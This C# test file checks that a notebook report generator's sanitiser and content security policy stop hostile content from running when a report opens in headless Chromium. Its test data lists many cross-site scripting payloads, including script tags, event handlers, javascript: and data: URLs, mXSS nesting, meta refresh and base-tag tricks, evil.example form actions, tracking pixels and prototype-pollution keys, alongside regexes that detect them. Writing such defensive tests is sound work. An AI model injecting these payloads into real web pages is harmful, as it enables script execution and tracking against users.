using System.Diagnostics;
using System.Text.Json.Nodes;
using static GistNotebooks.Cli.Tests.Gistnb;

namespace GistNotebooks.Cli.Tests.Faults;

/// <summary>
/// A report built from hostile notebooks is opened in headless Chromium, and nothing in the notebooks' Markdown or in
/// the HTML their code cells display runs: raw HTML in Markdown is shown as text, displayed HTML is sanitised, a chart is
/// redrawn from its JSON (and still draws), and <c>javascript:</c> addresses are removed. A page with a real script, opened the same
/// way, shows that the check would see a script that ran. CI installs Chromium (.ci/run).
/// </summary>
public sealed class ReportScriptTests
{
    private const string Hostile = """
        # Hostile prose

        <script>document.documentElement.setAttribute('data-ran', 'script')</script>

        <img src="missing.png" onerror="document.documentElement.setAttribute('data-ran', 'img')">

        <svg onload="document.documentElement.setAttribute('data-ran', 'svg')"></svg>

        <a href="javascript:document.documentElement.setAttribute('data-ran', 'raw-link')" id="raw">raw link</a>

        [a link](javascript:document.documentElement.setAttribute('data-ran','link')) and [another](JaVa&#x09;ScRiPt:alert(1))
        and ![an image](javascript:alert(2)) and [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        and <javascript:alert(3)> and [a fine link](https://example.org/) and [an anchor](#claims).
        """;

    private static string Chromium()
    {
        foreach (var name in new[] { "chromium", "chromium-browser", "google-chrome" })
        {
            foreach (var folder in (Environment.GetEnvironmentVariable("PATH") ?? string.Empty).Split(Path.PathSeparator))
            {
                var path = Path.Combine(folder, name);
                if (File.Exists(path))
                {
                    return path;
                }
            }
        }

        throw new InvalidOperationException("Chromium is needed for this test: install it (apt-get install -y chromium); .ci/run does.");
    }

    /// <summary>The document as Chromium has it after loading the page and running its scripts.</summary>
    private static string DumpDom(string page)
    {
        var start = new ProcessStartInfo(Chromium()) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var argument in new[] { "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--virtual-time-budget=2000", "--user-data-dir=" + Path.Combine(Path.GetTempPath(), "gistnb-chromium-" + Guid.NewGuid().ToString("N")), "--dump-dom", new Uri(page).AbsoluteUri })
        {
            start.ArgumentList.Add(argument);
        }

        using var chromium = Process.Start(start)!;
        var error = chromium.StandardError.ReadToEndAsync();
        var dom = chromium.StandardOutput.ReadToEnd();
        Assert.True(chromium.WaitForExit(120_000), "Chromium did not finish");
        Assert.True(dom.Contains("</html>", StringComparison.Ordinal), "Chromium gave no document: " + error.Result);
        return dom;
    }

    [Fact]
    public void The_check_sees_a_script_that_runs()
    {
        var folder = FaultNotebooks.NewFolder();
        var page = Path.Combine(folder, "control.html");
        File.WriteAllText(page, "<!DOCTYPE html><html><body><script>document.documentElement.setAttribute('data-ran', 'control')</script></body></html>");

        Assert.Contains("data-ran=\"control\"", DumpDom(page), StringComparison.Ordinal);
    }

    [Fact]
    public void Nothing_in_a_hostile_notebooks_markdown_runs_when_its_report_is_opened()
    {
        var folder = FaultNotebooks.NewFolder();
        var path = FaultNotebooks.Write(folder, "hostile", [FaultNotebooks.Cell("markdown", Hostile), FaultNotebooks.Cell("code", "1")], new JsonObject());
        var outFolder = Path.Combine(folder, "out");

        var (exit, _, error) = Run("run", path, "--out", outFolder);

        Assert.True(exit == 0, error);
        var report = Path.Combine(outFolder, "hostile.html");
        var html = File.ReadAllText(report);
        Assert.DoesNotContain("<script>document", html, StringComparison.Ordinal);
        Assert.DoesNotMatch("(?i)href=\"\\s*(javascript|data|vbscript):", html);
        Assert.DoesNotMatch("(?i)src=\"\\s*javascript:", html);
        Assert.Contains("&lt;script&gt;", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.org/\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"#claims\"", html, StringComparison.Ordinal);

        var dom = DumpDom(report);
        Assert.DoesNotContain("data-ran=\"", dom, StringComparison.Ordinal);
        Assert.DoesNotMatch("(?i)<(a|img|iframe|svg)\\b[^>]*(href|src)=\"\\s*(javascript|data|vbscript):", dom);
        Assert.DoesNotMatch("(?i)<(img|svg)\\b[^>]*\\bon[a-z]+=", dom);
    }

    /// <summary>A chart written the way Plotly.NET writes one: the div, then a script whose data, layout and config lines the report redraws from.</summary>
    private const string ChartLikePlotlyNet = """
        <div><div id="kit-chart"><!-- Plotly chart will be drawn inside this DIV --></div><script type="text/javascript">
        var renderPlotly_kitchart = function() {
            var fsharpPlotlyRequire = requirejs.config({context:'fsharp-plotly',paths:{plotly:'https://cdn.plot.ly/plotly-2.28.0.min'}}) || require;
            fsharpPlotlyRequire(['plotly'], function(Plotly) {
                var data = [{"type":"scatter","mode":"lines","x":[0.0,1.0,2.0],"y":[1.0,0.8,0.5],"name":"</script><script>document.documentElement.setAttribute('data-ran', 'chart-name')</script>"}];
                var layout = {"title":{"text":"Survival"}};
                var config = {"responsive":true,"displaylogo":false};
                Plotly.newPlot('kit-chart', data, layout, config);
                document.documentElement.setAttribute('data-ran', 'chart-script');
            });
        };
        renderPlotly_kitchart();
        </script></div>
        """;

    [Fact]
    public void Nothing_in_a_hostile_code_cells_html_output_runs_and_a_chart_still_draws()
    {
        var folder = FaultNotebooks.NewFolder();
        string Show(string html) => "Microsoft.DotNet.Interactive.Kernel.HTML(\"\"\"\n" + html + "\n\"\"\")";
        var path = FaultNotebooks.Code(
            folder,
            "hostile-output",
            Show("<p id=\"kept\">kept text</p><script>document.documentElement.setAttribute('data-ran', 'output-script')</script>"),
            Show("<img src=\"missing.png\" onerror=\"document.documentElement.setAttribute('data-ran', 'output-img')\"><a href=\"javascript:document.documentElement.setAttribute('data-ran', 'output-link')\" id=\"output-link\">link</a>"),
            Show("<table class=\"result\"><tr><th scope=\"col\">term</th></tr><tr><td>age</td></tr></table><iframe src=\"javascript:parent.document.documentElement.setAttribute('data-ran', 'iframe')\"></iframe>"),
            Show("<div>Plotly.newPlot is named here</div><script>document.documentElement.setAttribute('data-ran', 'fake-chart')</script>"),
            Show(ChartLikePlotlyNet));
        var outFolder = Path.Combine(folder, "out");

        var (exit, _, error) = Run("run", path, "--out", outFolder);

        Assert.True(exit == 0, error);
        var report = Path.Combine(outFolder, "hostile-output.html");
        var html = File.ReadAllText(report);
        Assert.Contains("kept text", html, StringComparison.Ordinal);
        Assert.Contains("<th scope=\"col\">term</th>", html, StringComparison.Ordinal);
        Assert.DoesNotMatch("(?i)href=\"\\s*javascript:", html);
        Assert.DoesNotMatch("(?i)<img\\b[^>]*\\bonerror=", html);

        var dom = DumpDom(report);
        Assert.DoesNotContain("data-ran=\"", dom, StringComparison.Ordinal);
        Assert.DoesNotMatch("(?i)<(a|img|iframe|svg)\\b[^>]*(href|src)=\"\\s*(javascript|data|vbscript):", dom);
        Assert.DoesNotMatch("(?i)<(img|svg)\\b[^>]*\\bon[a-z]+=", dom);

        // plotly.js drew the chart: its container holds the SVG it builds.
        Assert.Matches("(?s)class=\"chart[^\"]*\"[^>]*>.*class=\"main-svg\"", dom);
    }

    /// <summary>A chart whose JSON holds text plotly.js shows and keys a script literal would take for a prototype.</summary>
    private const string ChartWithPrototypeKeys = """
        <div id="proto-chart"></div><script type="text/javascript">
        var data = [{"type":"scatter","x":[0,1],"y":[1,0.5],"name":"<img src=x onerror=document.documentElement.setAttribute('data-ran','chart-name')>"}];
        var layout = {"title":{"text":"<a href=\"javascript:document.documentElement.setAttribute('data-ran','chart-title')\">t</a>"},"__proto__":{"polluted":"layout"}};
        var config = {"responsive":true,"constructor":{"prototype":{"polluted":"config"}}};
        Plotly.newPlot('proto-chart', data, layout, config);
        </script>
        """;

    [Fact]
    public void Displayed_html_loads_nothing_from_elsewhere_has_no_form_or_overlay_and_a_chart_loses_its_prototype_keys()
    {
        var folder = FaultNotebooks.NewFolder();
        string Show(string html) => "Microsoft.DotNet.Interactive.Kernel.HTML(\"\"\"\n" + html + "\n\"\"\")";
        const string Ran = "document.documentElement.setAttribute('data-ran', '{0}')";
        var path = FaultNotebooks.Code(
            folder,
            "hostile-loads",
            Show("<form action=\"https://evil.example/\"><input name=\"q\"><button formaction=\"javascript:" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Ran, "formaction") + "\">go</button></form>"),
            Show("<div style=\"position:fixed;top:0;left:0;background:url(https://tracker.example/x.png)\">overlay</div><img src=\"https://tracker.example/pixel.gif\"><img src=\"//tracker.example/p2.gif\"><a href=\"https://example.org/paper\">the paper</a>"),
            Show("<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Ran, "meta") + "\"><base href=\"https://evil.example/\"><object data=\"data:text/html,x\"></object><embed src=\"javascript:alert(1)\">"),
            Show("<math><mtext><table><mglyph><style><img src=x onerror=\"" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Ran, "mxss") + "\">"),
            Show("<details open ontoggle=\"" + string.Format(System.Globalization.CultureInfo.InvariantCulture, Ran, "toggle") + "\">d</details><style>@import url(https://evil.example/x.css);</style>"),
            Show(ChartWithPrototypeKeys));
        var outFolder = Path.Combine(folder, "out");

        var (exit, _, error) = Run("run", path, "--out", outFolder);

        Assert.True(exit == 0, error);
        var report = Path.Combine(outFolder, "hostile-loads.html");
        var html = File.ReadAllText(report);
        // What the cells displayed: the report after its head, without the cells' code (shown as encoded text).
        var shown = System.Text.RegularExpressions.Regex.Replace(html[html.IndexOf("<main>", StringComparison.Ordinal)..], "(?s)<div class=\"input\">.*?</pre></div>", string.Empty);
        Assert.DoesNotMatch("(?i)<(form|input|button|meta|base|object|embed|style)\\b", shown);
        Assert.DoesNotMatch("(?i)\\b(src|action|formaction)=\"[^\"]*(tracker|evil)\\.example", shown);
        Assert.DoesNotMatch("(?i)url\\([^)]*tracker", shown);
        Assert.DoesNotMatch("(?i)position:\\s*fixed", shown);
        Assert.Contains("<a href=\"https://example.org/paper\">the paper</a>", shown, StringComparison.Ordinal);
        var chart = shown[shown.IndexOf("Plotly.newPlot(", StringComparison.Ordinal)..];
        chart = chart[..chart.IndexOf("</script>", StringComparison.Ordinal)];
        Assert.DoesNotContain("__proto__", chart, StringComparison.Ordinal);
        Assert.DoesNotContain("constructor", chart, StringComparison.Ordinal);
        Assert.DoesNotContain("polluted", chart, StringComparison.Ordinal);

        var dom = DumpDom(report);
        Assert.DoesNotContain("data-ran=\"", dom, StringComparison.Ordinal);
        Assert.Matches("(?s)id=\"hostile-loads--[^\"]*-output-0\" class=\"chart[^\"]*\"[^>]*>.*class=\"main-svg\"", dom);
    }

    [Fact]
    public void A_script_that_slipped_past_the_sanitiser_would_still_not_run_and_the_reports_own_chart_draws()
    {
        // The report's content security policy lets only scripts with its nonce run. A script, an inline handler and a
        // javascript: address are put into a written report by hand, as if the sanitiser had missed them.
        var folder = FaultNotebooks.NewFolder();
        var path = FaultNotebooks.Code(folder, "policy", "Microsoft.DotNet.Interactive.Kernel.HTML(\"\"\"\n" + ChartLikePlotlyNet + "\n\"\"\")");
        var outFolder = Path.Combine(folder, "out");
        var (exit, _, error) = Run("run", path, "--out", outFolder);
        Assert.True(exit == 0, error);
        var report = Path.Combine(outFolder, "policy.html");
        var html = File.ReadAllText(report);
        Assert.Matches("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'nonce-[0-9a-f]{32}';", html);
        Assert.DoesNotMatch("<script(?![^>]*nonce=\"[0-9a-f]{32}\")", html[html.IndexOf("<body>", StringComparison.Ordinal)..]);

        var slipped = "<script>document.documentElement.setAttribute('data-ran', 'slipped-script')</script>"
            + "<img src=\"missing.png\" onerror=\"document.documentElement.setAttribute('data-ran', 'slipped-handler')\">"
            + "<iframe src=\"javascript:parent.document.documentElement.setAttribute('data-ran', 'slipped-frame')\"></iframe>"
            + "<img src=\"https://tracker.example/pixel.gif\" onload=\"document.documentElement.setAttribute('data-ran', 'loaded')\">";
        File.WriteAllText(report, html.Replace("<main>", "<main>" + slipped, StringComparison.Ordinal));

        var dom = DumpDom(report);
        Assert.Contains("slipped-script", dom, StringComparison.Ordinal);
        Assert.DoesNotContain("data-ran=\"", dom, StringComparison.Ordinal);
        Assert.Matches("(?s)class=\"chart[^\"]*\"[^>]*>.*class=\"main-svg\"", dom);
    }
}
